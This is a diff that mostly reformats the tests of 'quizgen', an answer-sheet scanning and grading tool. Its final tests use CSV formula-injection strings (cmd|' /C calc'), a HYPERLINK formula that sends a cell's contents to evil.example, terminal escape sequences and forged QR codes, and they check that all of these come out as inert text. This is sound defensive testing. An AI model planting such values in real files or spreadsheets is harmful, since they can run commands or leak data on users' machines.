@@ -28,12 +28,11 @@ np = pytest.importorskip("numpy")
 pdfium = pytest.importorskip("pypdfium2")
 from PIL import Image  # noqa: E402
 
-from quizgen.present import answersheet
-
 from quizgen import grading  # noqa: E402
-from quizgen.cli import cli  # noqa: E402
-from quizgen.present import versions as layout  # noqa: E402
 from quizgen.bank.load import load_bank  # noqa: E402
+from quizgen.cli import cli  # noqa: E402
+from quizgen.present import answersheet  # noqa: E402
+from quizgen.present import versions as layout  # noqa: E402
 
 DPI = 150
 MM = DPI / 25.4
@@ -117,27 +116,28 @@ def page_image(pdf: Path, index: int = 0) -> np.ndarray:
 
 # ---------------------------------------------------------------- filling and scanning
 
+
 @dataclass
 class Filled:
     """One sheet as a student fills it and the results row it must give."""
 
     version: str
     student: str
-    marks: dict = field(default_factory=dict)     # question number -> letters filled dark
-    light: dict = field(default_factory=dict)     # question number -> letters marked lightly
+    marks: dict = field(default_factory=dict)  # question number -> letters filled dark
+    light: dict = field(default_factory=dict)  # question number -> letters marked lightly
     turned: bool = False
 
 
-def pencil(image: np.ndarray, x_mm: float, y_mm: float, diameter_mm: float, rng: random.Random,
-           grey: int) -> None:
+def pencil(image: np.ndarray, x_mm: float, y_mm: float, diameter_mm: float, rng: random.Random, grey: int) -> None:
     """An irregular filled blob over a bubble, like a pencil scribble."""
     cx, cy, r = x_mm * MM, y_mm * MM, diameter_mm / 2 * MM
     points = []
     for k in range(18):
         angle = 2 * np.pi * k / 18
         reach = r * rng.uniform(0.92, 1.12)
-        points.append((cx + reach * np.cos(angle) + rng.uniform(-0.6, 0.6),
-                       cy + reach * np.sin(angle) + rng.uniform(-0.6, 0.6)))
+        points.append(
+            (cx + reach * np.cos(angle) + rng.uniform(-0.6, 0.6), cy + reach * np.sin(angle) + rng.uniform(-0.6, 0.6))
+        )
     cv2.fillPoly(image, [np.int32(np.round(points))], int(grey), lineType=cv2.LINE_AA)
 
 
@@ -185,6 +185,7 @@ def scanned_pdf(images: list[np.ndarray], path: Path) -> Path:
 
 # ---------------------------------------------------------------- what the results must say
 
+
 def paper_key(bank, letter: str) -> dict[int, layout.Printed]:
     """The paper's questions by number, for the version of that letter (the key's ✓ marks)."""
     count = 1 if not letter else max(2, layout.letters(26).index(letter) + 1)
@@ -222,8 +223,7 @@ def expected_row(file: str, page: int, filled: Filled, bank) -> list[str]:
             score = Fraction(max(0, len(set(marked) & right) - len(set(marked) - right)), len(right))
             earned += points * score
     text = lambda f: grading.micro_text(round(f * grading.MICRO))  # noqa: E731
-    return [file, str(page), filled.version, filled.student, text(earned), text(out_of),
-            "; ".join(flags)] + columns
+    return [file, str(page), filled.version, filled.student, text(earned), text(out_of), "; ".join(flags)] + columns
 
 
 def random_filling(rng: random.Random, bank, version: str) -> Filled:
@@ -255,6 +255,7 @@ def bank_letter(p: layout.Printed, label: str) -> str:
         return label
     html = {o.label: str(o.html) for o in p.options}[label]
     from quizgen.text import markup
+
     written = [str(markup.inline(c)) for c in p.question.choices]
     return layout.letters(len(written))[written.index(html)]
 
@@ -264,6 +265,7 @@ def read_csv(path: Path) -> list[list[str]]:
 
 
 # ---------------------------------------------------------------- the tests
+
 
 @pytest.mark.slow
 def test_two_hundred_scanned_sheets_are_read_mark_for_mark(printed, tmp_path):
@@ -332,7 +334,9 @@ def test_sheet_pdf_has_a_code_per_page_the_instructions_and_both_paper_sizes(tmp
     bank.parent.mkdir()
     questions = "".join(
         f"  - id: q{i}\n    type: single\n    prompt: Question {i}?\n"
-        f"    choices: [one{i}, two{i}, three{i}, four{i}]\n    answer: two{i}\n" for i in range(1, 100))
+        f"    choices: [one{i}, two{i}, three{i}, four{i}]\n    answer: two{i}\n"
+        for i in range(1, 100)
+    )
     questions += "  - id: essay\n    type: short\n    prompt: Why?\n    answer: [because]\n"
     bank.write_text(f"id: big\ntitle: Big bank\nquestions:\n{questions}", encoding="utf-8")
     for paper, size in (("a4", (595, 842)), ("letter", (612, 792))):
@@ -340,11 +344,13 @@ def test_sheet_pdf_has_a_code_per_page_the_instructions_and_both_paper_sizes(tmp
         assert result.exit_code == 0, result.output
         sheet_pdf = tmp_path / paper / "big" / "big-sheet.pdf"
         import pypdf
+
         reader = pypdf.PdfReader(sheet_pdf)
         assert len(reader.pages) >= 2
         assert all(tuple(round(float(v)) for v in page.mediabox[2:]) == size for page in reader.pages)
-        text = subprocess.run(["pdftotext", "-layout", str(sheet_pdf), "-"], capture_output=True,
-                              text=True, check=True).stdout
+        text = subprocess.run(
+            ["pdftotext", "-layout", str(sheet_pdf), "-"], capture_output=True, text=True, check=True
+        ).stdout
         assert "Student number" in text and "To change an answer" in text
         assert "100 marked by hand" in " ".join(text.split())
         codes = []
@@ -358,8 +364,10 @@ def test_sheet_pdf_has_a_code_per_page_the_instructions_and_both_paper_sizes(tmp
 def test_multi_page_sheet_reads_each_page_under_its_own_numbers(tmp_path):
     bank = tmp_path / "b" / "long.yaml"
     bank.parent.mkdir()
-    questions = "".join(f"  - id: t{i}\n    type: truefalse\n    prompt: Claim {i}.\n    answer: {'true' if i % 2 else 'false'}\n"
-                        for i in range(1, 121))
+    questions = "".join(
+        f"  - id: t{i}\n    type: truefalse\n    prompt: Claim {i}.\n    answer: {'true' if i % 2 else 'false'}\n"
+        for i in range(1, 121)
+    )
     bank.write_text(f"id: long\ntitle: Long\nquestions:\n{questions}", encoding="utf-8")
     assert run("build", bank, "-f", "sheets", "--paper", "letter", "-o", tmp_path / "out", "-q").exit_code == 0
     loaded = load_bank(bank).bank
@@ -382,8 +390,8 @@ def test_multi_page_sheet_reads_each_page_under_its_own_numbers(tmp_path):
     first_number = second.rows[0].number
     right = sum(1 for r in second.rows if r.number % 2)
     assert row[:7] == [str(path), "1", "", "12345678", str(right), str(len(second.rows)), ""]
-    assert row[7:7 + first_number - 1] == [""] * (first_number - 1)
-    assert row[7 + first_number - 1:] == ["T"] * len(second.rows)
+    assert row[7 : 7 + first_number - 1] == [""] * (first_number - 1)
+    assert row[7 + first_number - 1 :] == ["T"] * len(second.rows)
 
 
 def test_bad_scans_each_get_a_clear_line_and_no_traceback(printed, tmp_path):
@@ -416,16 +424,17 @@ def test_bad_scans_each_get_a_clear_line_and_no_traceback(printed, tmp_path):
     rows = read_csv(results)
     empty = [""] * 9
     assert rows[1] == [str(blank), "1", "", "", "", "", "blank page: nothing printed or written on it"] + empty
-    no_qr = ("no QR code could be read: not an answer sheet, or the code is smudged, folded or out of "
-             "the scan")
+    no_qr = "no QR code could be read: not an answer sheet, or the code is smudged, folded or out of the scan"
     assert rows[2] == [str(noise), "1", "", "", "", "", no_qr] + empty
     assert rows[3] == [str(smudged_path), "1", "", "", "", "", no_qr] + empty
     assert rows[4][6].startswith("notes.txt is neither a PDF nor an image quizgen can read")
     assert rows[5][:7] == [str(good), "1", "A", "", "0", "8", "scanned upside down (turned)"]
     assert f"{blank}: page 1: error: blank page" in result.output
     assert "1 of 5 pages graded, 1 with marks to check, 4 not read" in result.output
-    for bank, why in ((edited, "answer sheet printed from another edit of bank 'sheets-demo'"),
-                      (other, "answer sheet of bank 'sheets-demo', not of 'other-bank'")):
+    for bank, why in (
+        (edited, "answer sheet printed from another edit of bank 'sheets-demo'"),
+        (other, "answer sheet of bank 'sheets-demo', not of 'other-bank'"),
+    ):
         result = run("grade", bank, good, "-o", results)
         assert result.exit_code == 1
         assert read_csv(results)[1][6].startswith(why)
@@ -438,7 +447,9 @@ def test_annotated_copy_shows_the_marks_read(printed, tmp_path):
     sheet = answersheet.sheet(bank, SEED, "B", "a4")
     rng = random.Random(4)
     filled = random_filling(rng, bank, "B")
-    path = jpeg(scan(fill(page_image(out / "sheets-demo-sheet-B.pdf"), sheet, filled, rng), rng), tmp_path / "s.jpg", rng)
+    path = jpeg(
+        scan(fill(page_image(out / "sheets-demo-sheet-B.pdf"), sheet, filled, rng), rng), tmp_path / "s.jpg", rng
+    )
     result = run("grade", bank_path, path, "--annotate", tmp_path / "checked")
     assert result.exit_code == 0, result.output
     assert result.output.splitlines()[0].startswith("file,page,version,student")
@@ -446,13 +457,16 @@ def test_annotated_copy_shows_the_marks_read(printed, tmp_path):
     assert drawn is not None
     page = sheet.pages[0]
     from quizgen.scans.locate import PX_PER_MM
+
     for row in page.rows:
         for bubble in row.bubbles:
             x, y = int(bubble.x * PX_PER_MM), int(bubble.y * PX_PER_MM)
             reach = int(bubble.diameter / 2 * PX_PER_MM) + 3
-            ring = drawn[y - reach - 2:y + reach + 3, x - reach - 2:x + reach + 3].reshape(-1, 3).astype(int)
+            ring = drawn[y - reach - 2 : y + reach + 3, x - reach - 2 : x + reach + 3].reshape(-1, 3).astype(int)
             coloured = ((abs(ring[:, 0] - ring[:, 1]) > 60) | (abs(ring[:, 1] - ring[:, 2]) > 60)).any()
-            marked = bubble.label in filled.marks.get(row.number, "") or bubble.label in filled.light.get(row.number, "")
+            marked = bubble.label in filled.marks.get(row.number, "") or bubble.label in filled.light.get(
+                row.number, ""
+            )
             if marked:
                 assert coloured, (row.number, bubble.label)
 
@@ -472,9 +486,11 @@ def test_missing_libraries_are_named_with_the_extra_to_install(monkeypatch, tmp_
 
 
 def test_help_does_not_import_the_vision_libraries():
-    code = ("import sys; from quizgen.cli import cli\n"
-            "try:\n    cli(['--help'])\nexcept SystemExit:\n    pass\n"
-            "print([m for m in ('cv2', 'numpy', 'segno', 'pypdfium2') if m in sys.modules])")
+    code = (
+        "import sys; from quizgen.cli import cli\n"
+        "try:\n    cli(['--help'])\nexcept SystemExit:\n    pass\n"
+        "print([m for m in ('cv2', 'numpy', 'segno', 'pypdfium2') if m in sys.modules])"
+    )
     out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
     assert out.strip().splitlines()[-1] == "[]"
 
@@ -498,14 +514,32 @@ def test_a_half_filled_bubble_is_flagged_not_counted(printed, tmp_path):
     assert got[6 + row.number] == ""
 
 
-
 # ---------------------------------------------------------------- hostile names and codes
+
 
 def test_csv_cells_are_never_formulas_and_numbers_stay_numbers():
     from quizgen.runtime.csvsafe import csv_text, inert_cell
 
-    for formula in ["=1+1", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "-", "+", "=",
-                    "-1.5.2", "-1,5", "- 1", "-inf", "-nan", "-0x10", "-1_000", "+1e", "@"]:
+    for formula in [
+        "=1+1",
+        "+1+1",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "\r=1+1",
+        "-",
+        "+",
+        "=",
+        "-1.5.2",
+        "-1,5",
+        "- 1",
+        "-inf",
+        "-nan",
+        "-0x10",
+        "-1_000",
+        "+1e",
+        "@",
+    ]:
         assert inert_cell(formula) == "'" + formula, formula
     for kept in ["-1.5", "-0.250", "+3", "-1", "-.5", "-1e-3", "1.5", "0", "", "a=1", " =1", "'=1", "x-1"]:
         assert inert_cell(kept) == kept, kept
@@ -519,14 +553,15 @@ def test_results_csv_from_hostile_results():
     from quizgen.scans.grade import results_csv
     from quizgen.scans.result import Result
 
-    results = [Result('=HYPERLINK("x").png', 1, problem="@SUM(1+1).png is neither a PDF nor an image"),
-               Result("-2+3+cmd|x.png", 2, problem="blank page: nothing printed or written on it"),
-               Result("\x1b[2J\r=1.png", 1, problem="\t=cmd"),
-               Result("ok.png", 1, version="A", student="-1", earned=1_500_000, out_of=2_000_000, flags=["-x"])]
+    results = [
+        Result('=HYPERLINK("x").png', 1, problem="@SUM(1+1).png is neither a PDF nor an image"),
+        Result("-2+3+cmd|x.png", 2, problem="blank page: nothing printed or written on it"),
+        Result("\x1b[2J\r=1.png", 1, problem="\t=cmd"),
+        Result("ok.png", 1, version="A", student="-1", earned=1_500_000, out_of=2_000_000, flags=["-x"]),
+    ]
     rows = list(csv.reader(io.StringIO(results_csv(results, [1]))))
     assert rows[0] == ["file", "page", "version", "student", "score", "max", "flags", "1"]
-    assert rows[1] == ["'=HYPERLINK(\"x\").png", "1", "", "", "", "",
-                       "'@SUM(1+1).png is neither a PDF nor an image", ""]
+    assert rows[1] == ['\'=HYPERLINK("x").png', "1", "", "", "", "", "'@SUM(1+1).png is neither a PDF nor an image", ""]
     assert rows[2][0] == "'-2+3+cmd|x.png"
     assert rows[3][0] == "\\x1b[2J\\x0d=1.png" and rows[3][6] == "\\x09=cmd"
     assert rows[4] == ["ok.png", "1", "A", "-1", "1.5", "2", "'-x", ""]
@@ -543,8 +578,9 @@ def test_stats_csv_keeps_a_negative_discrimination_a_number(tmp_path):
     results = []
     for i, right in enumerate([True, True, False, False]):
         answer = Answer("capital", "A" if right else "B", (0,) if right else (1,), Fraction(int(right)))
-        results.append(Result(f"{i}.png", 1, version="A", earned=(i + 1) * 1_000_000, out_of=10_000_000,
-                              answers={1: answer}))
+        results.append(
+            Result(f"{i}.png", 1, version="A", earned=(i + 1) * 1_000_000, out_of=10_000_000, answers={1: answer})
+        )
     rows = list(csv.reader(io.StringIO(stats_csv(bank, results))))
     capital = next(row for row in rows if row[1] == "capital")
     assert capital[-1] == "-1.000" and capital[-2] == "0.500"
@@ -560,17 +596,26 @@ def test_scan_names_that_are_formulas_or_escapes_stay_text(run_cli, tmp_path):
     """`quizgen grade` run in the folder of scans named to be formulas (so the file column starts
     with the name) and to clear the terminal: each cell is text, and nothing raw is printed."""
     (tmp_path / "demo.yaml").write_text(BANK, encoding="utf-8")
-    blank = ['=HYPERLINK("evil.example?"&A1,"x").png', "-2+3+cmd|' -C calc'!A0.png", "+1+1.png",
-             "\x1b]0;pwned\x07\x1b[2J.png"]
+    blank = [
+        '=HYPERLINK("evil.example?"&A1,"x").png',
+        "-2+3+cmd|' -C calc'!A0.png",
+        "+1+1.png",
+        "\x1b]0;pwned\x07\x1b[2J.png",
+    ]
     _blank_scans(tmp_path, blank)
     (tmp_path / "@SUM(1+1).png").write_text("not an image", encoding="utf-8")
-    result = run_cli("grade", "-o", "results.csv", "--stats", "stats.csv", "demo.yaml", "--", *blank, "@SUM(1+1).png",
-                     cwd=tmp_path)
+    result = run_cli(
+        "grade", "-o", "results.csv", "--stats", "stats.csv", "demo.yaml", "--", *blank, "@SUM(1+1).png", cwd=tmp_path
+    )
     assert result.exit_code == 1  # no page was graded
     rows = read_csv(tmp_path / "results.csv")
     assert [row[0] for row in rows[1:]] == [
-        "'=HYPERLINK(\"evil.example?\"&A1,\"x\").png", "'-2+3+cmd|' -C calc'!A0.png", "'+1+1.png",
-        "\\x1b]0;pwned\\x07\\x1b[2J.png", "'@SUM(1+1).png"]
+        '\'=HYPERLINK("evil.example?"&A1,"x").png',
+        "'-2+3+cmd|' -C calc'!A0.png",
+        "'+1+1.png",
+        "\\x1b]0;pwned\\x07\\x1b[2J.png",
+        "'@SUM(1+1).png",
+    ]
     assert rows[5][6].startswith("'@SUM(1+1).png is neither a PDF nor an image")
     stats = read_csv(tmp_path / "stats.csv")
     assert stats[0][0] == "question" and len(stats) == 10
@@ -593,8 +638,10 @@ def test_a_forged_qr_code_is_neither_a_formula_nor_an_escape(run_cli, tmp_path, 
     bank_path = tmp_path / "demo.yaml"
     bank_path.write_text(BANK, encoding="utf-8")
     fingerprint = answersheet.fingerprint(load_bank(bank_path).bank)
-    codes = {"bank.png": f"{answersheet.PAYLOAD_TAG} =cmd|'/C\x1b[2Jcalc'!A0 A 7 a4 1 {fingerprint}",
-             "version.png": f"{answersheet.PAYLOAD_TAG} sheets-demo @\x1b]0;x\x07 7 a4 1 {fingerprint}"}
+    codes = {
+        "bank.png": f"{answersheet.PAYLOAD_TAG} =cmd|'/C\x1b[2Jcalc'!A0 A 7 a4 1 {fingerprint}",
+        "version.png": f"{answersheet.PAYLOAD_TAG} sheets-demo @\x1b]0;x\x07 7 a4 1 {fingerprint}",
+    }
     _blank_scans(tmp_path, list(codes))
     read = {}
 
